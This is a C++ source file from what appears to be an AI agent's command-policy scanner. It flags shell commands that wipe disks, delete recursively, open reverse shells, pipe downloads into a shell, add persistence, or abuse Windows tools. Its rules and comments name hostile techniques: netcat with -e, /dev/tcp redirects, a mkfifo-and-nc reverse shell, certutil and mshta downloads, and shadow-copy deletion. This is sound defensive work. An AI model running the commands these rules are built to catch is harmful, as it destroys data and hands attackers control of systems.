#include "policy/scan/shell_harm.h"

#include <algorithm>
#include <array>
#include <string>

#include "policy/scan/byte_classes.h"
#include "policy/scan/decode.h"
#include "policy/scan/shell_places.h"
#include "policy/scan/start_places.h"
#include "policy/scan/word_lists.h"

namespace agentmesh::policy::scan {
namespace {

class Judge {
 public:
  explicit Judge(std::vector<Hit>& hits) : hits_(hits) {}

  void judge(const ShellRun& run, const Company& company) {
    for (const Redirect& redirect : run.command->redirects) judge_redirect(run, company, redirect);
    if (run.name.empty()) return;
    if (run.name == "rm" || run.name == "remove-item" || run.name == "rmdir" || run.name == "rd" ||
        run.name == "del" || run.name == "erase" || run.name == "ri")
      judge_remove(run, company.directory);
    judge_wipe(run);
    judge_sockets(run);
    judge_persistence(run);
    judge_windows(run);
  }

 private:
  void hit(std::string_view id, Severity severity) { add_hit(hits_, {id, severity}); }

  // Knocking at a port: nothing is said but a line, and nothing that comes back is run.
  static bool only_knocks(const ShellRun& run, const Company& company) {
    if (run.name == "exec") return run.arguments.empty() && company.loud <= 1;
    if (run.name == "cat")
      return run.arguments.empty() && !run.command->reads_pipe &&
             std::any_of(run.command->redirects.begin(), run.command->redirects.end(),
                         [](const Redirect& redirect) { return redirect.target == "/dev/null"; });
    return is_quiet(run);
  }

  void judge_remove(const ShellRun& run, const std::string& place) {
    const bool recursive =
        run.option('r', "--recursive") || run.option('R', "--recursive") ||
        run.has_argument("/s") || run.has_argument("/S") ||
        std::any_of(run.arguments.begin(), run.arguments.end(), [](const std::string& word) {
          const std::string lower = ascii_lower(word);
          return lower == "-recurse" || lower == "-r";
        });
    const bool no_preserve = run.option('\0', "--no-preserve-root");
    bool wipes = no_preserve;
    bool any = false;
    bool made = !run.command->reads_pipe && !is_system_place(place);
    for (const std::string& word : run.arguments) {
      if (word.empty() || word[0] == '-' ||
          (word.size() == 2 && word[0] == '/' && run.name != "rm"))
        continue;
      any = true;
      made = made && is_made_by_build(word);
      if (is_system_place(word)) wipes = true;
      if ((word == "*" || word == "./*" || word == "." || word == "./") && is_system_place(place))
        wipes = true;
    }
    if (run.name == "rmdir" && !recursive) return;
    if (wipes && (recursive || no_preserve)) return hit("shell.wipe", Severity::kCritical);
    if (recursive && (any || run.command->reads_pipe || run.name == "rm"))
      hit("shell.recursive-delete", any && made ? Severity::kLow : Severity::kMedium);
  }

  void judge_wipe(const ShellRun& run) {
    const auto any = [&](auto test) {
      return std::any_of(run.arguments.begin(), run.arguments.end(), test);
    };
    if (run.name == "dd" && any([](const std::string& word) {
          return word.substr(0, 3) == "of=" && is_disk(std::string_view(word).substr(3));
        }))
      hit("shell.wipe", Severity::kCritical);
    if ((run.name == "cp" || run.name == "tee" || run.name == "install") &&
        !run.arguments.empty() && is_disk(run.arguments.back()))
      hit("shell.wipe", Severity::kCritical);
    // docker run -v /:/host … rm -rf /host
    if ((run.name == "docker" || run.name == "podman") && any([](const std::string& word) {
          return word.starts_with("/:/") || word.starts_with("--volume=/:/") ||
                 word.starts_with("-v/:/") || has(word, "source=/,");
        }) &&
        any([](const std::string& word) { return word == "rm" || has(word, "rm -"); }))
      hit("shell.wipe", Severity::kCritical);
    if ((run.name.substr(0, 4) == "mkfs" || run.name == "wipefs" || run.name == "shred" ||
         run.name == "blkdiscard" || run.name == "sgdisk" || run.name == "hdparm") &&
        any([](const std::string& word) { return is_disk(word); }))
      hit("shell.wipe", Severity::kCritical);
    if ((run.name == "chmod" || run.name == "chown" || run.name == "chgrp" || run.name == "shred" ||
         run.name == "mv") &&
        any([](const std::string& word) {
          return is_system_place(word) &&
                 (word == "/" || word == "/*" || word == "~" || word[0] == '/');
        })) {
      if (run.name == "mv" ? (!run.arguments.empty() && is_system_place(run.arguments[0]))
                           : run.option('R', "--recursive"))
        hit("shell.wipe", Severity::kHigh);
    }
    if (run.name == "kill" && run.has_argument("-9") && run.has_argument("-1"))
      hit("shell.wipe", Severity::kHigh);
  }

  void judge_redirect(const ShellRun& run, const Company& company, const Redirect& redirect) {
    if ((has(redirect.target, "/dev/tcp/") || has(redirect.target, "/dev/udp/")) &&
        !only_knocks(run, company))
      hit("shell.reverse-shell", Severity::kCritical);
    if (redirect.op.empty() || redirect.op[0] == '<') return;
    if (is_disk(redirect.target)) hit("shell.wipe", Severity::kCritical);
    if (is_start_place(redirect.target)) hit("shell.persistence", Severity::kHigh);
  }

  void judge_sockets(const ShellRun& run) {
    std::string all;
    for (const std::string& word : run.arguments) {
      all += word;
      all += ' ';
      if (all.size() > 8192) break;
    }
    const bool netcat = run.name == "nc" || run.name == "ncat" || run.name == "netcat" ||
                        run.name == "nc.traditional" || run.name == "nc.openbsd";
    const bool names_shell = has(all, "/bin/sh") || has(all, "/bin/bash") || has(all, "bash") ||
                             has(all, "cmd.exe") || has(all, "powershell") || has(all, "/bin/zsh");
    if (netcat && ((run.option('e', "--exec") || run.option('c', "--sh-exec")) &&
                   (names_shell || has(all, "sh"))))
      hit("shell.reverse-shell", Severity::kCritical);
    // What a shell is given to run is read by itself.
    const bool given = is_shell(run.name) && run.option('c', "--command");
    if (!given && (has(all, "/dev/tcp/") || has(all, "/dev/udp/")))
      hit("shell.reverse-shell", Severity::kCritical);
    if (run.name == "socat" && (has(ascii_lower(all), "exec:") || has(ascii_lower(all), "system:")))
      hit("shell.reverse-shell", Severity::kCritical);
    if (has(all, "/inet/tcp/") && (has(run.name, "awk")))
      hit("shell.reverse-shell", Severity::kCritical);
    if (is_interpreter(run.name) || is_shell(run.name)) {
      const bool socket = has(all, "socket") || has(all, "Socket") || has(all, "fsockopen") ||
                          has(all, "net.connect") || has(all, "TCPClient") ||
                          has(all, "TcpClient") || has(all, "require('net')") ||
                          has(all, "require(\"net\")");
      const bool executes = has(all, "exec") || has(all, "subprocess") || has(all, "dup2") ||
                            has(all, "pty") || has(all, "spawn") || has(all, "system") ||
                            has(all, "popen") || has(all, "iex") || has(all, "/bin/sh") ||
                            has(all, "Process");
      if (socket && executes) hit("shell.reverse-shell", Severity::kCritical);
      const bool fetches = has(all, "urlopen") || has(all, "urllib") || has(all, "requests.get") ||
                           has(all, "http.get") || has(all, "file_get_contents('http") ||
                           has(all, "open-uri") || has(all, "LWP::");
      if (fetches && (has(all, "exec(") || has(all, "eval") || has(all, "system(")))
        hit("shell.pipe-to-shell", Severity::kHigh);
    }
    // mkfifo f; cat f | sh -i 2>&1 | nc host port > f, and telnet host 1 | sh | telnet host 2
    if (run.beside_shell &&
        (netcat || run.name == "telnet" || (run.name == "openssl" && run.has_argument("s_client"))))
      hit("shell.reverse-shell", Severity::kCritical);
  }

  void judge_persistence(const ShellRun& run) {
    const auto last = run.arguments.empty() ? std::string() : run.arguments.back();
    if ((run.name == "tee" || run.name == "cp" || run.name == "mv" || run.name == "install" ||
         run.name == "ln") &&
        is_start_place(last))
      hit("shell.persistence", Severity::kHigh);
    if (run.name == "sed" && run.option('i', "--in-place") && is_start_place(last))
      hit("shell.persistence", Severity::kHigh);
    if (run.name == "crontab" && !run.option('l', "--list") && !run.option('e', "--edit") &&
        (run.has_argument("-") || run.command->reads_pipe || !run.arguments.empty()))
      hit("shell.persistence", Severity::kMedium);
    // git runs what these say.
    if (run.name == "git" && run.has_argument("config") &&
        (run.has_argument("--global") || run.has_argument("--system")) &&
        std::any_of(run.arguments.begin(), run.arguments.end(), [](const std::string& word) {
          const std::string lower = ascii_lower(word);
          return lower == "core.hookspath" || lower == "core.fsmonitor" ||
                 lower == "core.sshcommand" || lower == "init.templatedir";
        }))
      hit("shell.persistence", Severity::kHigh);
    if (run.name == "systemctl" && run.has_argument("enable"))
      hit("shell.persistence", Severity::kMedium);
    if (run.name == "useradd" || run.name == "adduser" ||
        (run.name == "usermod" && (run.option('G', "--groups"))))
      hit("shell.persistence", Severity::kMedium);
    if (run.name == "chmod" && !run.arguments.empty()) {
      const std::string& mode = run.arguments[0];
      if (has(mode, "+s") || (mode.size() == 4 && (mode[0] == '4' || mode[0] == '6') &&
                              mode.find_first_not_of("01234567") == std::string::npos))
        hit("shell.persistence", Severity::kMedium);
    }
    if (run.name == "schtasks" &&
        std::any_of(run.arguments.begin(), run.arguments.end(),
                    [](const std::string& word) { return ascii_lower(word) == "/create"; }))
      hit("shell.persistence", Severity::kHigh);
    if (run.name == "reg" &&
        std::any_of(run.arguments.begin(), run.arguments.end(), [](const std::string& word) {
          return has(ascii_lower(word), "currentversionrun") ||
                 has(ascii_lower(word), "currentversion\\run");
        }))
      hit("shell.persistence", Severity::kHigh);
  }

  void judge_windows(const ShellRun& run) {
    std::string all = run.name;
    for (const std::string& word : run.arguments) {
      all += ' ';
      all += ascii_lower(word);
      if (all.size() > 8192) break;
    }
    const bool powershell = run.name == "powershell" || run.name == "pwsh" || run.name == "iex" ||
                            run.name == "invoke-expression";
    if (powershell &&
        (has(all, "downloadstring") || has(all, "downloadfile") ||
         ((has_word(all, "iex") || has(all, "invoke-expression")) &&
          (has_word(all, "iwr") || has(all, "invoke-webrequest") || has(all, "http")))))
      hit("shell.pipe-to-shell", Severity::kHigh);
    if (powershell)
      for (const std::string& word : run.arguments) {
        const std::string lower = ascii_lower(word);
        if (lower.size() >= 2 && lower[0] == '-' &&
            std::string_view("-encodedcommand").substr(0, lower.size()) == lower &&
            lower[1] == 'e' && lower != "-ex" && lower.substr(0, 3) != "-ex")
          hit("shell.obfuscated", Severity::kHigh);
      }
    if ((run.name == "certutil" && has(all, "urlcache")) ||
        (run.name == "bitsadmin" && has(all, "/transfer")) ||
        (run.name == "mshta" && has(all, "http")) || (run.name == "regsvr32" && has(all, "/i:")) ||
        (run.name == "rundll32" && has(all, "javascript:")) ||
        (run.name == "msiexec" && has(all, "http")))
      hit("shell.pipe-to-shell", Severity::kHigh);
    if (run.name == "format" && !run.arguments.empty() && run.arguments[0].size() == 2 &&
        run.arguments[0][1] == ':')
      hit("shell.wipe", Severity::kCritical);
    if ((run.name == "vssadmin" && has(all, "delete shadows")) ||
        (run.name == "cipher" && has(all, "/w")) ||
        (run.name == "bcdedit" && has(all, "recoveryenabled no")))
      hit("shell.wipe", Severity::kCritical);
  }

  std::vector<Hit>& hits_;
};

}  // namespace

bool is_quiet(const ShellRun& run) {
  static constexpr std::array<std::string_view, 9> kQuiet = {"",      "echo", "printf", "true", ":",
                                                             "false", "exit", "sleep",  "break"};
  return is_among(kQuiet, run.name);
}

bool has_word(std::string_view text, std::string_view word) {
  constexpr unsigned kInside = kAlphaByte | kDigitByte;
  for (size_t at = text.find(word); at < text.size(); at = text.find(word, at + 1)) {
    const size_t end = at + word.size();
    if ((at == 0 || !is_of(text[at - 1], kInside)) &&
        (end == text.size() || !is_of(text[end], kInside)))
      return true;
  }
  return false;
}

void find_harm(const ShellRun& run, const Company& company, std::vector<Hit>& hits) {
  Judge(hits).judge(run, company);
}

}  // namespace agentmesh::policy::scan
